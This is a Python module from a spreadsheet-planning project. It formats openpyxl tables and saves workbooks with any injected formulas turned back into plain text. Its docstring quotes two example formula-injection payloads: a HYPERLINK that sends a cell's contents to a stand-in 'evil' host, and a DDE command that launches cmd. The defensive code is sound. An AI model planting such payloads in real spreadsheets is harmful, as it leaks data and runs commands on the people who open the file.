"""openpyxl for the workbooks reeplan builds as openpyxl objects: the template and the validation report
(which copies the planner's own workbook). Tables get a frozen bold header, filters, fitted widths and print
titles; every save goes through planner.outputs, with user text kept as text."""
from __future__ import annotations

from pathlib import Path

import pandas as pd
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from planner.outputs import staged
from planner.workbook import MAX_WIDTH, cell_value

HEADER_FONT = Font(bold=True)


def write_table(ws, frame: pd.DataFrame) -> None:
    """An openpyxl sheet (template, validation report) with a frozen bold header, filters and fitted widths."""
    columns = list(frame.columns)
    ws.append(columns)
    for row in frame.itertuples(index=False):
        ws.append([cell_value(v) for v in row])
    for cell in ws[1]:
        cell.font = HEADER_FONT
    ws.freeze_panes = "A2"
    if columns:
        ws.auto_filter.ref = f"A1:{get_column_letter(len(columns))}{max(len(frame) + 1, 2)}"
    for i, column in enumerate(columns, start=1):
        sample = [str(column)] + [str(v) for v in frame[column].head(200)]
        ws.column_dimensions[get_column_letter(i)].width = min(max(len(s) for s in sample) + 3, MAX_WIDTH)
    ws.print_title_rows = "1:1"
    ws.page_setup.fitToWidth, ws.page_setup.fitToHeight = 1, 0
    ws.sheet_properties.pageSetUpPr.fitToPage = True


def save_workbook(wb, target: Path, keep_formulas: frozenset = frozenset()) -> None:
    """Save an openpyxl workbook reeplan made (template, validation report) through planner.outputs.

    Text stays text: openpyxl stores a string starting with '=' as a formula, so a name such as
    `=HYPERLINK("http://evil/?"&A1)` or a DDE payload `=cmd|' /C calc'!A0` would run in the planner's
    spreadsheet. reeplan writes no formulas of its own; `keep_formulas` ((sheet title, coordinate)) are
    formulas of the planner's own input workbook, kept in a validation report.
    """
    for ws in wb.worksheets:
        for cell in ws._cells.values():  # only the cells that exist; iter_rows would create the rest
            if cell.data_type == "f" and isinstance(cell.value, str) and (ws.title, cell.coordinate) not in keep_formulas:
                cell.data_type = "s"
    with staged(target) as tmp:
        wb.save(tmp)
